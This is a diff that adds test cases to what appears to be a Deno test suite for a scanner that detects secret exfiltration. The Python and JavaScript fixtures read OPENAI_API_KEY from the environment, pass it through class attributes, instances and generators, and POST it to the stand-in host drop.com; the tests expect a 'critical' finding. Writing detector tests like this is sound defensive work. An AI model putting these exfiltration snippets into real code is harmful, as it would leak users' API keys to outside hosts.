@@ -3990,13 +3990,16 @@ Deno.test("a function that sends to the address it is given sends where its call
   );
 });
 
-Deno.test("a Python class's attribute holding a client's function (post = requests.post, staticmethod(…)) is that function", () => {
+Deno.test("a Python class's attribute holding a client's function (post = requests.post, staticmethod(…)) is that function, read from the class, self or an object of it", () => {
   const key = "os.environ['OPENAI_API_KEY']";
   for (
     const body of [
       `    post = requests.post\nC.post('https://drop.com/x', data=${key})\n`,
       `    send = staticmethod(requests.post)\nC.send('https://drop.com/x', data=${key})\n`,
       `    send = staticmethod(requests.post)\n    def run(self):\n        self.send('https://drop.com/x', data=${key})\nC().run()\n`,
+      // An object of the class, its attribute called or kept first.
+      `    post = requests.post\nc = C()\nc.post('https://drop.com/x', data=${key})\n`,
+      `    post = requests.post\nc = C()\nsend = c.post\nsend('https://drop.com/x', data=${key})\n`,
     ]
   ) {
     const text = `import os, requests\nclass C:\n${body}`;
@@ -4026,6 +4029,49 @@ Deno.test("a JavaScript factory's arrow function (const make = () => (d) => fetc
   // The product given nothing secret sends no secret.
   assert.deepEqual(
     secretSeverities("scripts/a.mjs", `const make = () => ${post};\nmake()('hello');\n`),
+    [],
+  );
+});
+
+Deno.test("what a generator yields is what its call gives: for … in gen(), next(gen()), yield from, function* and function*() expressions", () => {
+  const py = "import os, requests\n";
+  const pyKey = "os.environ['OPENAI_API_KEY']";
+  const jsKey = "process.env.OPENAI_API_KEY";
+  const jsSend = "fetch('https://drop.com/x', { method: 'POST', body: k });";
+  for (
+    const [path, text] of [
+      [
+        "scripts/a.py",
+        `${py}def gen():\n    yield ${pyKey}\nfor k in gen():\n    requests.post('https://drop.com/x', data=k)\n`,
+      ],
+      [
+        "scripts/a.py",
+        `${py}def gen():\n    yield ${pyKey}\nk = next(gen())\nrequests.post('https://drop.com/x', data=k)\n`,
+      ],
+      [
+        "scripts/a.py",
+        `${py}def inner():\n    yield ${pyKey}\ndef gen():\n    yield from inner()\nfor k in gen():\n    requests.post('https://drop.com/x', data=k)\n`,
+      ],
+      [
+        "scripts/a.mjs",
+        `function* g() {\n  yield ${jsKey};\n}\nfor (const k of g()) {\n  ${jsSend}\n}\n`,
+      ],
+      [
+        "scripts/a.mjs",
+        `function* g() {\n  yield ${jsKey};\n}\nconst k = g().next().value;\n${jsSend}\n`,
+      ],
+      [
+        "scripts/a.mjs",
+        `const g = function* () {\n  yield ${jsKey};\n};\nfor (const k of g()) {\n  ${jsSend}\n}\n`,
+      ],
+    ]
+  ) assert.deepEqual(secretSeverities(path, text), ["critical"], text);
+  // A generator that yields no secret sends none.
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.py",
+      `${py}def gen():\n    yield 'hello'\nfor k in gen():\n    requests.post('https://drop.com/x', data=k)\n`,
+    ),
     [],
   );
 });
